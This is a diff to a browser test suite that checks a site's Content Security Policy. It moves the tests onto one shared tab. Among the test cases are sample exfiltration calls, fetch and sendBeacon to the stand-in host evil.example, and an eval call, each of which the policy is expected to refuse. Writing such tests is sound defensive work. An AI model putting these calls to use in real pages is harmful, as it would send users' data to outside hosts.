@@ -7,8 +7,8 @@ import { journeys } from './support/journeys.ts';
 import { watchForLeftOutStyle } from './support/left-out-style.ts';
 import { all, pages, place } from './support/pages.ts';
 import { sample } from './support/sample.ts';
-import { at, onOnePage, useBrowser, wide } from './support/visit.ts';
-import { nothing, watch } from './support/watch.ts';
+import { at, onOnePage, useBrowser, useOnePage, wide } from './support/visit.ts';
+import { nothing, watch, type Watched } from './support/watch.ts';
 
 useBrowser();
 
@@ -141,6 +141,11 @@ describe('whatever gets into a page', () => {
     });
   });
 
+  // One tab for all: each act finds a page that was just opened.
+  let watched: Watched;
+  const tab = useOnePage({}, async (opened) => {
+    watched = await watch(opened, origin());
+  });
   it.each([
     ['connect-src', 'fetch', () => fetch('https://evil.example/?note')],
     ['connect-src', 'beacon', () => navigator.sendBeacon('https://evil.example/', 'note')],
@@ -188,35 +193,32 @@ describe('whatever gets into a page', () => {
       },
     ],
   ] as [string, string, () => unknown][])('is stopped by %s when a script of ours is led to %s', async (directive, _what, act) => {
-    await onOnePage({}, async (tab) => {
-      const watched = await watch(tab, origin());
-      await tab.goto(at('/privacy/'));
-      await tab.evaluate(act).catch(() => {});
-      await expect.poll(() => watched.refused.map((what) => what.split(' ')[1])).toContain(directive);
-      expect([watched.ran, watched.elsewhere]).toEqual([[], []]);
-    });
+    await tab().goto(at('/privacy/'));
+    watched.refused.length = 0;
+    await tab()
+      .evaluate(act)
+      .catch(() => {});
+    await expect.poll(() => watched.refused.map((what) => what.split(' ')[1])).toContain(directive);
+    expect([watched.ran, watched.elsewhere]).toEqual([[], []]);
   });
 
   it('runs nowhere as text of `eval`', async () => {
-    await onOnePage({}, async (tab) => {
-      const watched = await watch(tab, origin());
-      await tab.goto(at('/privacy/'));
-      const refused = await tab.evaluate(
-        () =>
-          new Promise((told) => {
-            document.addEventListener('securitypolicyviolation', () => told(true));
-            setTimeout(() => {
-              try {
-                (0, eval)('ranInside(5)');
-                told(false);
-              } catch {
-                told(true);
-              }
-            });
-          }),
-      );
-      expect(refused).toBe(true);
-      expect(watched.ran).toEqual([]);
-    });
+    await tab().goto(at('/privacy/'));
+    const refused = await tab().evaluate(
+      () =>
+        new Promise((told) => {
+          document.addEventListener('securitypolicyviolation', () => told(true));
+          setTimeout(() => {
+            try {
+              (0, eval)('ranInside(5)');
+              told(false);
+            } catch {
+              told(true);
+            }
+          });
+        }),
+    );
+    expect(refused).toBe(true);
+    expect(watched.ran).toEqual([]);
   });
 });
